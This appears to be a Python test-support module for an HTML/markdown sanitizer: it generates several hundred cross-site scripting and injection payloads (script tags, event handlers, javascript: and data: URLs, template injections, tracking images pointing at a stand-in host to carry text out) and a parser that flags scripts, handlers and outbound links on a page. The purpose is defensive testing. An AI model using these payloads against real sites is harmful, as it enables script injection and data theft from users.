# ruff: noqa: E501
"""Three hundred ways to get a script to run, or text carried out, and what no page may hold."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

RUN = "alert(1)"
OUT = "http://tracker.invalid/"  # never answers; who asks it has failed
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "marquee",
         "object data=x", "select autofocus", "textarea autofocus", "embed src=x", "form", "a href=x", "math", "style")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "vbscript:",
            "data:text/html,<script>alert(1)</script>//", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
            "&#106;avascript:", "javascript&colon;", "jav&#x09;ascript:", "javascript://%0a")  # fmt: skip
_HOLDERS = ("[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a]: {}\n\n[a]", '<a href="{}">a</a>', "<iframe src='{}'>",
            "<form action={}><input type=submit>", '<object data="{}">', "<base href='{}'>", "[*a*]({} \"t\")")  # fmt: skip
_WHOLE = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src={out}x.js></script>", "<scr<script>ipt>{run}</script>",
    "</script><script>{run}</script>", "'\"><script>{run}</script>", "</textarea><script>{run}</script>",
    "</title><script>{run}</script>", "</style><script>{run}</script>", "--><script>{run}</script>", "<!--><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>", "`<script>{run}</script>`", "```\n</code></pre><script>{run}</script>\n```",
    "\" onmouseover=\"{run}", "' onfocus='{run}' autofocus='", "x\" onerror=\"{run}\" src=\"x", "`-{run}-`", "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}", "{{% load static %}}{{% debug %}}", "{{{{ request.user }}}}", "<%= {run} %>",
    "<meta http-equiv=refresh content='0;url={out}'>", "<link rel=stylesheet href={out}x.css>", "<link rel=prefetch href={out}>",
    "<style>@import '{out}x.css';</style>", "<div style=\"background:url({out}x)\">a</div>", "<img srcset='{out}2x 2x'>",
    "<img src={out}leak.png?said=hello>", "![map]({out}leak.png?said=hello)", "![ref][1]\n\n[1]: {out}reference.png",
    "<video poster={out}p.png></video>", "<svg><image href={out}i.png></svg>", "<svg><use href='{out}s.svg#a'></use></svg>",
    "<table background={out}t.png><tr><td>a</table>", "<template><script>{run}</script></template>", "<noscript><p title=\"</noscript>"
    "<img src=x onerror={run}>\"></noscript>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror={run}&gt;\">", "\u2028<script>{run}</script>", "\ufeff<script>{run}</script>", "<\u0000script>{run}</script>",
    "＜script＞{run}＜/script＞", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "%3Cscript%3E{run}",
    "\\u003cscript\\u003e{run}", "<img src=x onerror=&#97;lert(1)>", "<a href='{out}' ping='{out}'>a</a>", "[a]({out}?q=secret)",
    "<button form=f formaction=javascript:{run}>a</button>", "<isindex action=javascript:{run} type=image>",
    "**<img src=x onerror={run}>**", "*[a](javascript:{run})*", "> <script>{run}</script>", "- <svg onload={run}>", "# <svg/onload={run}>",
    "| <img src=x onerror={run}> |\n|-|", "~~<svg onload={run}>~~", "“<script>{run}</script>”", "http://a\"onmouseover={run}//",
)  # fmt: skip


def _made() -> Iterator[str]:
    for whole in _WHOLE:
        yield whole.format(run=RUN, out=OUT)
    for tag, event in product(_TAGS, _EVENTS):
        yield f"<{tag} {event}={RUN}>"
    for scheme, holder in product(_SCHEMES, _HOLDERS):
        yield holder.format(scheme + RUN)


# Nothing that no form would take: the tests of those are elsewhere.
PAYLOADS = tuple(dict.fromkeys(payload.replace("\x00", "").replace("\x01", "") for payload in _made()))

_LEADS = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "background",
    "ping",
    "srcset",
    "manifest",
}
_NEVER = {"base", "object", "embed", "iframe", "frame", "applet", "marquee", "isindex", "noembed"}


class Page(HTMLParser):
    """`faults` says what of a page would run, or ask somebody else. Our own scripts are files of ours, or data."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name.lower(): value or "" for name, value in attrs}
        if tag in _NEVER or (tag == "meta" and given.get("http-equiv", "").lower() == "refresh"):
            self.faults.append(f"<{tag}>")
        if tag == "script" and not given.get("src") and "json" not in given.get("type", ""):
            self.faults.append("a script of its own")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.faults.append(f"<{tag} {name}>")
            if name in _LEADS and leads_out(value, follows=tag == "a" and name == "href"):
                self.faults.append(f"<{tag} {name}={value[:80]}>")


def leads_out(address: str, *, follows: bool = False) -> bool:
    """Other than into this site. What somebody has to click may be a fragment, mail or a number to call."""
    plain = "".join(sign for sign in address if sign > " ").lower()
    parts = urlsplit(plain)
    if parts.scheme in ("", "http", "https"):
        return parts.netloc not in ("", "testserver")
    return not (follows and (parts.scheme == "mailto" or re.fullmatch(r"tel:\+?\d*", plain)))
